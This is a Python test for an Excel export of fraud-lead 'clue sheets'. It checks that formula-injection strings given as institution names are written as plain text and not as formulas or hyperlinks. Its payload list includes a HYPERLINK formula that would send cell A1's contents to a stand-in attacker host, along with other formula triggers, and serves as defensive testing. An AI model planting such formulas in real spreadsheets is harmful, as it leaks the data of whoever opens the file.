def test_clue_sheet_writes_institution_names_as_text_never_formulas(tmp_path):
    from python_calamine import CalamineWorkbook

    from exports.clue_sheet import write_sheet

    export = tmp_path / "sup.duckdb"
    evil = ['=HYPERLINK("http://evil.example/?q="&A1,"点击")', "=1+1", "+SUM(1)", "@x", "http://evil.example"]
    con = duckdb.connect(str(export))
    con.execute("create schema supervisor")
    con.execute(
        "create table supervisor.supervisor_clue_list (clue_id varchar, fixmedins_name varchar, "
        "suspect_amount decimal(18,2), top_rules varchar, must_report boolean, report_due_date date, "
        "latest_stage_name varchar, year_quarter varchar, priority_rank integer)"
    )
    con.execute(
        "create table supervisor.supervisor_clue_hits (clue_id varchar, hit_id varchar, rule_code varchar, "
        "rule_name_zh varchar, fixmedins_name varchar, occurred_on date, suspect_amount decimal(18,2), "
        "result_level varchar, evidence varchar)"
    )
    for i, name in enumerate(evil):
        con.execute(
            "insert into supervisor.supervisor_clue_list values (?, ?, 1.5, ?, false, null, null, '2025Q1', ?)",
            [f"CL-{i}", name, name, i],
        )
        con.execute(
            "insert into supervisor.supervisor_clue_hits values (?, ?, 'R01', ?, ?, date '2025-02-01', 1.5, '2', ?)",
            [f"CL-{i}", f"h{i}", name, name, json.dumps({"item_name": name})],
        )
    con.close()
    out = tmp_path / "clues.xlsx"
    assert write_sheet("2025Q1", out, export) == len(evil)
    with zipfile.ZipFile(out) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode() + z.read("xl/worksheets/sheet2.xml").decode()
    assert "<f>" not in sheet_xml and "<hyperlink" not in sheet_xml
    rows = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("线索处置").to_python()
    name_col = rows[0].index("机构名称")
    assert [r[name_col] for r in rows[1:]] == evil
    reviews = CalamineWorkbook.from_path(str(out)).get_sheet_by_name("疑点明细复核").to_python()
    assert [r[reviews[0].index("机构名称")] for r in reviews[1:]] == evil
    assert [r[reviews[0].index("规则")] for r in reviews[1:]] == [f"R01 {name}" for name in evil]
